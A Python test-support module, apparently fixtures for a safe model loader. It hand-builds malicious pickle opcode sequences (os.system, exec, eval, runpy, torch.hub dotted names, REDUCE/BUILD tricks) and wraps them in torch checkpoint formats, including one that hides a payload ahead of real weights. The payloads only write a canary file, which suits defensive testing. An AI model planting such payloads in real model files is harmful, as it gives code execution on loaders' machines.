"""Pickles that take over who opens them: bodies that push one object, without what begins and ends a pickle."""

from __future__ import annotations

import pickle
import struct
import zipfile
from pathlib import Path


class Setter:
    """A class whose state, once set, writes a file."""

    def __setstate__(self, state: str) -> None:
        Path(state).write_text("written")


class Maker:
    """A class that writes a file where it is made."""

    def __new__(cls, path: str, **_: str) -> Maker:
        Path(path).write_text("written")
        return super().__new__(cls)


class Reduced:
    """An object whose pickle writes a file where it is read."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[type[Maker], tuple[str]]:
        return Maker, (self.canary,)


def text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def called(module: str, name: str, *arguments: bytes) -> bytes:
    """Return the opcodes that call a function by its name."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def dotted(module: str, name: str, *arguments: bytes) -> bytes:
    """Return the opcodes that call what a dotted name reaches through a module's attributes."""
    return text(module) + text(name) + b"\x93(" + b"".join(arguments) + b"tR"


def bodies(canary: Path) -> dict[str, bytes]:
    """Return the opcodes of each attack, which writes a file where it runs."""
    command, code = text(f"echo written > {canary}"), text(f"__import__('pathlib').Path({str(canary)!r}).touch()")
    path = text(str(canary))
    system = called("builtins", "getattr", called("builtins", "__import__", text("os")), text("system"))
    setter, maker = (f"{kind.__module__}\n{kind.__name__}\n".encode() for kind in (Setter, Maker))
    return {
        "os.system": called("os", "system", command),
        "posix.system": called("posix", "system", command),
        "exec": called("builtins", "exec", code),
        "eval by its old name": b"\x80\x02" + called("__builtin__", "eval", code) + b"\x80\x04",
        "getattr of an import": system + b"(" + command + b"tR",
        "a function that torch imports": dotted("torch.hub", "os.system", command),
        "a dotted name through torch._utils": dotted("torch._utils", "sys.modules.get", text("os"))
        + b"0"
        + called("posix", "system", command),
        "runpy": called("runpy", "_run_code", b"cbuiltins\ncompile\n(" + code + text("x") + text("exec") + b"tR", b"}"),
        "INST": b"(" + command + b"ios\nsystem\n",
        "OBJ": b"(cos\nsystem\n" + command + b"o",
        "NEWOBJ": b"c" + maker + path + b"\x85\x81",
        "NEWOBJ_EX": b"c" + maker + path + b"\x85(" + text("mode") + text("w") + b"d\x92",
        "REDUCE of a class": b"c" + maker + path + b"\x85R",
        "BUILD with __setstate__": b"c" + setter + b")\x81" + path + b"b",
        "copyreg": called("copyreg", "_reconstructor", b"c" + setter, b"cbuiltins\nobject\n", b"N") + path + b"b",
        "a partial function": called("functools", "partial", b"cos\nsystem\n", command) + b")R",
    }


def pickled(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def beside(body: bytes, pickle_of_weights: bytes) -> bytes:
    """Return a pickle that runs the body, drops what it gives, and goes on as another pickle."""
    return b"\x80\x04" + body + b"0" + pickle_of_weights[2:]


def write_zip(path: Path, content: bytes, folder: str = "archive", **entries: bytes) -> None:
    """Write a file of torch's zip format around a pickle."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{folder}/data.pkl", content)
        archive.writestr(f"{folder}/byteorder", "little")
        archive.writestr(f"{folder}/version", "3\n")
        for name, stored in entries.items():
            archive.writestr(f"{folder}/data/{name}", stored)


def write_old(path: Path, content: bytes) -> None:
    """Write a file of torch's older format around a pickle."""
    machine = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    head = [pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, machine)]
    path.write_bytes(b"".join(head) + content + pickle.dumps([], 2))
